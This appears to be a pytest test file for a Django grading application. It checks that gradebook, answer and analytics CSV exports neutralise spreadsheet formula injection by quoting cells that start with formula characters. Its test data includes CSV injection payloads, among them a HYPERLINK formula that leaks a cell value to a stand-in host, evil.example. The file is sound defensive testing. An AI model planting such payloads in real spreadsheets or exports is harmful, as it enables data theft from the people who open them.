"""CSV formula injection: student text never becomes a live formula in an instructor's spreadsheet.

Every export (the gradebook, the per-answer CSV, the analytics tables; pages and API) writes its
cells through `common.spreadsheet.csv_text`. A text cell starting with = + - @, a tab or a carriage
return gets a leading single quote (OWASP's advice); numbers (int, Decimal, float) are written
as numbers, so a negative score or discrimination stays a number.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from bank.tests.factories import ChapterFactory, QuestionFactory
from common import spreadsheet
from grading import exports
from grading.tests.teach_data import graded_exam

D = Decimal
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1+1",
]


def _rows(text: str) -> list[list[str]]:
    assert text.startswith(spreadsheet.BOM)
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_cells_that_start_a_formula_are_quoted(text):
    assert _rows(spreadsheet.csv_text(["h"], [[text]]))[1] == ["'" + text]


@pytest.mark.parametrize("text", ["BERT", "1+1", " =not a formula", "", "张伟", "'already quoted", "a=b"])
def test_ordinary_text_is_written_as_is(text):
    assert _rows(spreadsheet.csv_text(["h"], [[text]]))[1] == [text]


@pytest.mark.parametrize("value, written", [(-2, "-2"), (D("-0.50"), "-0.50"), (-1.25, "-1.25"), (D("3.00"), "3.00")])
def test_numbers_stay_numbers_even_when_negative(value, written):
    assert _rows(spreadsheet.csv_text(["n"], [[value]]))[1] == [written]


def test_header_cells_are_neutralised_too():
    assert _rows(spreadsheet.csv_text(["=Q1", "total"], []))[0] == ["'=Q1", "total"]


@pytest.fixture
def hostile_exam(section):
    """Four students whose names and answers are formulas; Q2 is answered best by the weakest
    student, so its discrimination is negative (upper S1 0/5, lower S4 5/5: D = -1.0)."""
    chapter = ChapterFactory(course=section.course, number=3)
    q1 = QuestionFactory(chapter=chapter, ref="1", points=D(10))
    q2 = QuestionFactory(chapter=chapter, ref="2", points=D(5))
    names = ['=HYPERLINK("http://evil.example")', "@SUM(A1)", "+1", "-2+3"]
    responses = [[HOSTILE[0], HOSTILE[1]], [HOSTILE[2], HOSTILE[3]], [HOSTILE[4], "plain"], ["fine", "-7"]]
    scores = [[D(10), D(0)], [D(8), D(1)], [D(4), D(4)], [D(0), D(5)]]
    key_points = {(0, 0): [{"text": "=1+1 leaks", "covered": False, "strength": 0.1}]}
    return graded_exam(section, [q1, q2], responses, scores, names=names, key_points=key_points)


def _no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r" or re.fullmatch(r"-\d+(\.\d+)?", cell), (cell, row)


def test_answers_csv_neutralises_student_text(hostile_exam):
    rows = _rows(exports.answers_csv(hostile_exam.assignment))
    _no_live_formula(rows)
    responses = {r[4] for r in rows[1:]}
    assert "'" + HOSTILE[0] in responses and "'-2+3" in responses and "'-7" in responses  # text column: quoted
    assert "'@SUM(A1)" in {r[1] for r in rows[1:]}


def test_gradebook_csv_neutralises_names_and_keeps_scores_numeric(hostile_exam):
    rows = _rows(exports.gradebook_csv(hostile_exam.assignment))
    _no_live_formula(rows)
    by_name = {r[1]: r for r in rows[1:]}
    assert set(by_name) == {'\'=HYPERLINK("http://evil.example")', "'@SUM(A1)", "'+1", "'-2+3"}
    assert by_name["'-2+3"][3:] == ["0.00", "5.00", "5.00", "15.00"]


def test_analytics_csvs_neutralise_text_and_keep_negative_discrimination(client, hostile_exam, instructor):
    client.force_login(instructor)
    tables = {}
    for table in ("questions", "attempts", "key_points", "histogram"):
        response = client.get(reverse("teach:analytics_csv", args=[hostile_exam.assignment.pk, table]))
        assert response.status_code == 200
        tables[table] = _rows(response.content.decode("utf-8"))
        _no_live_formula(tables[table])
    q2 = next(r for r in tables["questions"] if r[0] == "Q3.2")
    assert q2[6] == "-1.000"  # a number, not the text "'-1.000"
    assert ["Q3.1", "'=1+1 leaks", "1", "1", "1.000"] in tables["key_points"]
    assert "'@SUM(A1)" in {r[1] for r in tables["attempts"]}


def test_api_and_page_downloads_are_neutralised(client, hostile_exam, instructor):
    client.force_login(instructor)
    pk = hostile_exam.assignment.pk
    for url in (
        reverse("teach:export_gradebook", args=[pk]),
        reverse("teach:export_answers", args=[pk]),
        f"/api/v1/assignments/{pk}/gradebook.csv",
        f"/api/v1/assignments/{pk}/answers.csv",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        rows = _rows(response.content.decode("utf-8"))
        _no_live_formula(rows)
        assert any("'@SUM(A1)" in row for row in rows), url


def test_every_csv_writer_is_the_one_helper():
    """A new export that calls csv.writer itself would skip the neutralising: only common/spreadsheet.py may."""
    root = Path(settings.BASE_DIR)
    writers = [
        path.relative_to(root).as_posix()
        for folder in ("common", "accounts", "bank", "classes", "classroom", "quizzes", "grading")
        for path in (root / folder).rglob("*.py")
        if "/tests/" not in path.as_posix() and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["common/spreadsheet.py"]
